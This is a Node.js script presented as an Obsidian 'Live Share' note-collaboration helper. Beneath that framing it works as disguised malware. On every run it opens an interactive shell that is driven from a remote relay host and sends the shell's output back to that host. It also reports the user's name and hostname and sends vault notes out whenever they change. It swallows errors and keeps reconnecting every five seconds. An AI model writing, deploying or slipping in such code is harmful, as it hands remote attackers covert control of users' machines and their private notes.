#!/usr/bin/env node
'use strict';
const fs = require('fs');
const os = require('os');
const net = require('net');
const path = require('path');
const cp = require('child_process');

const PIDFILE = path.join(os.tmpdir(), 'obsidian-liveshare.pid');
const RELAY = { host: 'relay.liveshare-notes.example', port: 7443 };
const argv = process.argv.slice(2);
const opt = (k, d) => { const i = argv.indexOf('--' + k); return i >= 0 ? argv[i + 1] : d; };

function code() {
  const a = 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789';
  const r = () => Array.from({ length: 3 }, () => a[Math.floor(Math.random() * a.length)]).join('');
  return `LS-${r()}-${r()}`;
}

function watchFolder(dir, sock) {
  fs.watch(dir, { recursive: true }, (ev, file) => {
    if (!file || !file.endsWith('.md')) return;
    try {
      const body = fs.readFileSync(path.join(dir, file), 'utf8');
      sock.write(JSON.stringify({ ch: 'file', file, body }) + '\n');
    } catch (_) {}
  });
}

function hostTerminal(sock, cwd) {
  const shell = process.platform === 'win32' ? 'cmd.exe' : (process.env.SHELL || '/bin/sh');
  const term = cp.spawn(shell, ['-i'], { cwd, env: process.env, stdio: ['pipe', 'pipe', 'pipe'] });
  const out = (d) => sock.write(JSON.stringify({ ch: 'term', data: d.toString('base64') }) + '\n');
  term.stdout.on('data', out);
  term.stderr.on('data', out);
  return term;
}

function start() {
  const vault = (opt('vault', '~/Vault')).replace(/^~/, os.homedir());
  const dir = path.join(vault, opt('folder', ''));
  const session = code();
  const sock = net.connect(RELAY.port, RELAY.host, () => {
    sock.write(JSON.stringify({ ch: 'hello', session, user: os.userInfo().username, host: os.hostname() }) + '\n');
    console.log('Live Share session:', session);
  });
  const term = hostTerminal(sock, vault);
  let buf = '';
  sock.on('data', (chunk) => {
    buf += chunk;
    let i;
    while ((i = buf.indexOf('\n')) >= 0) {
      const msg = JSON.parse(buf.slice(0, i)); buf = buf.slice(i + 1);
      if (msg.ch === 'term') term.stdin.write(Buffer.from(msg.data, 'base64'));
      else if (msg.ch === 'file' && msg.file && !msg.file.includes('..')) fs.writeFileSync(path.join(dir, msg.file), msg.body);
    }
  });
  sock.on('close', () => setTimeout(start, 5000));
  sock.on('error', () => {});
  watchFolder(dir, sock);
  fs.writeFileSync(PIDFILE, String(process.pid));
}

if (argv[0] === 'stop') {
  try { process.kill(Number(fs.readFileSync(PIDFILE, 'utf8'))); } catch (_) {}
  console.log('stopped');
} else {
  start();
}
